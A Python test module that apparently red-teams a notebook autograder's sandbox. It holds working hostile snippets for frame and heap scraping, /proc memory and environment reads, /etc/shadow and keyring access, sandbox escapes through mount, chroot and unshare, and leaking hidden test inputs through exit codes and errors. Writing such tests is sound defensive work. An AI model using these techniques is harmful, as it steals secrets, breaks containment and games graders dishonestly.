"""Attacks that look for tests, references, expected values, seeds and other people's work."""

from tests.hostile.declare import LOOT, WON, Attack, Goal

READ: Goal = "secret read"


def looks(name: str, tries: str, source: str, **more: object) -> Attack:
    """An attack that prints what it found: at the top, while it is called, and at the end."""
    search = LOOT + "\ndef search():\n" + _indented(source)
    calls = "def scale(number):\n    search()\n    return number"
    return Attack(
        name,
        tries,
        READ,
        first=(search, "search()"),
        answers={"scale": calls},
        after={"": "search()"},
        **more,  # type: ignore[arg-type]
    )


def _indented(source: str) -> str:
    lines = source.strip("\n").split("\n")
    margin = len(lines[0]) - len(lines[0].lstrip())
    return "".join(f"    {line[margin:]}\n" for line in lines)


ATTACKS = (
    looks(
        "walks-the-frames",
        "reads the locals of every function that called it, and of every thread",
        """
        import sys
        frames = [*sys._current_frames().values(), sys._getframe()]
        for frame in frames:
            while frame is not None:
                for name, value in {**frame.f_globals, **frame.f_locals}.items():
                    if name in ("expected", "right", "reference", "tolerance"):
                        loot(repr(value), name)
                frame = frame.f_back
        """,
    ),
    looks(
        "walks-the-heap",
        "looks through every object that Python's collector knows",
        """
        import gc
        for thing in gc.get_objects():
            if type(thing) in (dict, list, tuple) and len(thing) < 2000:
                for value in thing.values() if type(thing) is dict else thing:
                    if type(value) in (str, bytes, bytearray):
                        loot(value, "heap")
        """,
    ),
    looks(
        "reads-its-memory",
        "scans all of its process's memory, beyond what Python knows",
        """
        own = set()
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                place, rights, *_, = line.split()
                if rights[:2] != "rw" or line.rstrip().endswith((".so", "[stack]")):
                    continue
                start, end = (int(part, 16) for part in place.split("-"))
                if end - start > 256 << 20:
                    continue
                memory.seek(start)
                try:
                    blob = memory.read(end - start)
                except OSError:
                    continue
                loot(blob, "memory", rb"zq[0-9a-f]{20}")
        """,
    ),
    looks(
        "reads-other-processes",
        "reads environments, arguments, open files and roots of every process it sees",
        """
        import glob, os
        for pattern in ("environ", "cmdline", "fd/*", "root/*", "cwd/*", "mountinfo"):
            for path in glob.glob(f"/proc/[0-9]*/{pattern}"):
                try:
                    if os.path.isfile(path):
                        loot(open(path, "rb").read(1 << 20), path)
                    loot(os.readlink(path) if os.path.islink(path) else "", path)
                except OSError:
                    pass
        """,
    ),
    looks(
        "reads-the-environment",
        "prints its environment and that of its parents",
        """
        import ctypes, os
        loot(repr(dict(os.environ)), "environment")
        libc = ctypes.CDLL(None)
        libc.getenv.restype = ctypes.c_char_p
        loot(libc.getenv(b"EXAM_TOKEN") or b"", "environment")
        try:
            loot(open(f"/proc/{os.getppid()}/environ", "rb").read(), "parent")
        except OSError:
            pass
        """,
    ),
    looks(
        "walks-the-disk",
        "reads course, submissions, results and home wherever they might be",
        """
        import os, pathlib
        for root in ("@ROOM@", "@COURSE@", "@OUT@", "@SUBMISSIONS@", "@HOME@", "/proc/1/root@ROOM@",
                     "/tmp", "/home", "/root", "/var/tmp", "/mnt", "/srv", "/dev/shm", "/old"):
            for folder, folders, names in os.walk(root):
                folders[:] = [name for name in folders if name not in ("lib", "include", "share")]
                for name in names[:200]:
                    path = os.path.join(folder, name)
                    loot(path, "name")
                    try:
                        with open(path, "rb") as file:
                            loot(file.read(1 << 20), path)
                    except OSError:
                        pass
        """,
    ),
    looks(
        "imports-the-course",
        "imports the grader and the solutions, or reads their compiled files",
        """
        import importlib, inspect, pathlib, sys
        sys.path[:0] = ["@ROOM@", "@ROOM@/solutions", str(pathlib.Path(sys.prefix).parent)]
        for name in ("solutions.@LAB@.reference", "solutions.@LAB@.checks", "@LAB@.checks",
                     "autograder.referee", "autograder.discover", "tests.hostile"):
            try:
                module = importlib.import_module(name)
                if getattr(module, "__file__", None):
                    print("BROKE", "IN", sep="-")
                    loot(inspect.getsource(module), name)
            except Exception:
                pass
        """,
    ),
    looks(
        "asks-git",
        "asks git, pip and nbgrader for what they know of the course",
        """
        import pathlib, subprocess, sys
        repository = pathlib.Path(sys.prefix).parent
        for command in (
            ["git", "-C", str(repository), "log", "-3"],
            [sys.executable, "-S", "-c", "import autograder.referee"],
            ["cat", "@SEED@", "@EXAM@", "/etc/shadow"],
        ):
            try:
                done = subprocess.run(command, capture_output=True, timeout=5)
                loot(done.stdout, command[0])
                if done.returncode == 0:
                    print("BROKE", "IN", sep="-")
            except (OSError, subprocess.SubprocessError):
                pass
        """,
    ),
    looks(
        "asks-the-keyring",
        "asks the kernel for keys of the session in which the grader was started",
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        buffer = ctypes.create_string_buffer(200)
        for ring in (-3, -4, -5, -1, -2):
            key = libc.syscall(250, 10, ring, b"user", b"exam", 0)
            if key > 0 and libc.syscall(250, 11, key, buffer, 200) > 0:
                loot(buffer.raw, "keyring")
        try:
            loot(open("/proc/keys").read(), "keys")
        except OSError:
            pass
        """,
    ),
    looks(
        "opens-by-handle",
        "opens files of the disk below its root by their numbers",
        """
        import ctypes, os, struct
        libc = ctypes.CDLL(None, use_errno=True)
        place = os.open("/usr", os.O_RDONLY)
        for inode in (2, 64, 96, 128, 256):
            handle = struct.pack("<IiQ", 8, 1, inode)
            opened = libc.open_by_handle_at(place, handle, os.O_RDONLY | os.O_DIRECTORY)
            if opened >= 0:
                print("BROKE", "IN", sep="-")
        os.close(place)
        """,
    ),
    looks(
        "breaks-the-root",
        "mounts, unmounts, changes its root or leaves it through what is open",
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        try:
            own = os.open("/proc/self/ns/mnt", os.O_RDONLY)
        except OSError:
            own = -1
        doors = [
            libc.umount2(b"/home/student", 2), libc.umount2(b"/proc", 2),
            libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None),
            libc.mount(b"proc", b"/tmp", b"proc", 0, None),
            libc.chroot(b"/tmp"), libc.unshare(0x10000000), libc.unshare(0x00020000),
            libc.setns(own, 0),
            libc.syscall(428, -100, b"/", 0x1 | 0x8000), libc.syscall(430, b"tmpfs", 0),
            libc.pivot_root(b"/tmp", b"/tmp"), libc.setuid(0), libc.setgid(0), libc.seteuid(0),
        ]
        if any(result >= 0 for result in doors):
            print(doors)
            print("BROKE", "IN", sep="-")
        """,
    ),
    looks(
        "knocks-at-the-kernel",
        "makes system calls that no notebook needs and that have let others out before",
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        blank = ctypes.create_string_buffer(256)
        calls = {
            "add_key": (248, b"user", b"zz", b"zz", 2, -1), "keyctl": (250, 0, -3, 1),
            "bpf": (321, 0, blank, 120), "perf_event_open": (298, blank, 0, -1, -1, 0),
            "userfaultfd": (323, 1), "io_uring_setup": (425, 4, blank),
            "kexec_load": (246, 0, 0, 0, 0), "init_module": (175, blank, 0, b""),
            "pidfd_getfd": (438, 0, 0, 0), "fanotify_init": (300, 0, 0),
            "unshare": (272, 0x10000000), "clone3": (435, blank, 64), "setns": (308, 0, 0),
            "name_to_handle_at": (303, -100, b"/", blank, blank, 0), "swapon": (167, b"/x", 0),
        }
        opened = [name for name, (number, *rest) in calls.items()
                  if libc.syscall(number, *rest) >= 0]
        if opened:
            print(opened)
            print("BROKE", "IN", sep="-")
        """,
    ),
    Attack(
        "tells-by-exit-code",
        "ends its process with a byte of the hidden input as exit code, to read it in the feedback",
        READ,
        answers={
            "scale": "import os\ndef scale(number):\n    if number > 100:\n"
            "        os._exit(199)\n    return 7 * number + 3"
        },
        earns=2.0,
        betrayed="199",
    ),
    Attack(
        "tells-by-exception",
        "raises hidden inputs as message and class name of an error, to read them in the feedback",
        READ,
        answers={
            "scale": "def scale(number):\n"
            "    raise type(f'E{number}', (KeyError,), {})(f'input {number}')"
        },
    ),
    Attack(
        "tells-by-value",
        "returns hidden inputs as values, types, shapes and keys that a message might repeat",
        READ,
        answers={
            "scale": "def scale(number):\n"
            "    if number > 100:\n"
            "        return {f'input {number}': number}\n"
            "    return type(f'T{number}', (), {})()",
            "total": "def total(values):\n    return str(values)",
        },
    ),
    Attack(
        "tells-in-a-later-cell",
        "keeps hidden inputs in a list and prints it in the next cell",
        READ,
        answers={
            "scale": "seen = []\ndef scale(number):\n    seen.append(number)\n    return number"
        },
        after={"scale": "print('seen:', [f'{n:,}' for n in seen], seen)"},
    ),
    Attack(
        "tells-by-a-file",
        "writes hidden inputs beside the notebook and shows the file in a later cell",
        READ,
        answers={
            "scale": "def scale(number):\n    print(number)\n"
            "    print('later', number, file=open('seen.txt', 'a'))\n    return number"
        },
        after={"": "import os\nif os.path.exists('seen.txt'):\n    print(open('seen.txt').read())"},
    ),
    Attack(
        "reads-labkit",
        "looks in labkit for public cases, hints and how answers are compared",
        READ,
        first=(
            LOOT
            + "import inspect, labkit, pathlib\n"
            + "for path in pathlib.Path(labkit.__file__).parent.rglob('*'):\n"
            + "    if path.is_file():\n        loot(path.read_bytes(), path.name)\n",
            "import sys\nif 'autograder' in sys.modules:\n    " + WON,
        ),
    ),
)
